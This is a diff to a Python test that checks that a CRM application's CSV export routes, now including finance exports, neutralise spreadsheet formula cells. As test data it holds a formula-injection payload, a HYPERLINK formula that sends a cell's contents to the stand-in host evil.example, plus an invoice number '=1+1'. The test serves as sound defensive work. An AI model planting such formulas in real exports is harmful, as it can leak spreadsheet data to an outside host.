@@ -8,9 +8,11 @@ from __future__ import annotations
 
 import csv
 import io
+import uuid
 import zipfile
 from collections.abc import Callable
-from datetime import UTC, datetime, timedelta
+from datetime import UTC, date, datetime, timedelta
+from decimal import Decimal
 
 import pytest
 from fastapi import FastAPI
@@ -21,7 +23,7 @@ from api.services.spreadsheet import FORMULA_STARTS, safe_cell
 from crm.application.users import Role
 from projections.engine.runner import wait_until_caught_up
 from tests.api.web_client import new_user, page_csrf, sign_in
-from tests.factories import RoleHeaders, record, register, unique
+from tests.factories import RoleHeaders, provenance, record, register, unique
 from tests.pages import endpoints
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -63,6 +65,17 @@ def test_every_export_route_neutralises_formula_cells(
         services.crm, customer, now - timedelta(hours=1), "consent_given", notes=None,
         purpose="email_marketing", lawful_basis="consent", evidence="@form",
     )  # fmt: skip
+    # An invoice whose number would be a formula, dated on a day of its own.
+    invoice_day = date(1980, 1, 1) + timedelta(days=uuid.uuid4().int % 3000)
+    record(
+        services.crm, customer, now - timedelta(hours=1), "purchase_made", notes=None,
+        purchase_id="-p", offering="@offer", offering_type="coaching", amount=Decimal(10),
+        invoice_reference=None,
+    )  # fmt: skip
+    services.crm.invoice_purchase(
+        customer, provenance(now), purchase_id="-p", invoice_number="=1+1",
+        invoice_date=invoice_day, due_date=invoice_day, amount=Decimal(10),
+    )  # fmt: skip
     wait_until_caught_up(services.projector, services.views.refresh())
     api = TestClient(app)
     marketing, dpo = as_role[Role.MARKETING], as_role[Role.DPO]
@@ -72,6 +85,8 @@ def test_every_export_route_neutralises_formula_cells(
     api.get(f"/customers/{customer}", params={"reason": "-read"}, headers=as_role[Role.DPO])
     marketer = sign_in(app, new_user(services, Role.MARKETING))
     officer = sign_in(app, new_user(services, Role.DPO))
+    accountant = sign_in(app, new_user(services, Role.FINANCE))
+    period = {"start": str(invoice_day), "end": str(invoice_day)}
     segment_path = {"segment_id": segment["segment_id"]}
 
     cases: dict[tuple[str, str], Callable[[], tuple[bytes, str]]] = {}
@@ -95,6 +110,8 @@ def test_every_export_route_neutralises_formula_cells(
     case("GET", "/ui/privacy/access-log", officer,
          params={"customer": str(customer), "format": "csv"})  # fmt: skip
     case("GET", "/privacy/consent-audit.csv", api, headers=dpo)
+    case("GET", "/finance/export.csv", api, params=period, headers=as_role[Role.FINANCE])
+    case("GET", "/ui/finance/export.csv", accountant, params=period)
 
     assert export_routes(app) == set(cases), "give every export route a case here"
     for (method, path), call in cases.items():
@@ -103,7 +120,10 @@ def test_every_export_route_neutralises_formula_cells(
         assert texts, f"{method} {path} returned no CSV"
         cells = [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]
         assert not [c for c in cells if c.startswith(FORMULA_STARTS)], f"{method} {path}"
-        if "segment" in path:
+        if "segment" in path or "finance" in path:
             assert "'" + HOSTILE_NAME in cells, f"{method} {path}"
+        if "finance" in path:
+            assert "'=1+1" in cells, f"{method} {path}"
     marketer.close()
     officer.close()
+    accountant.close()
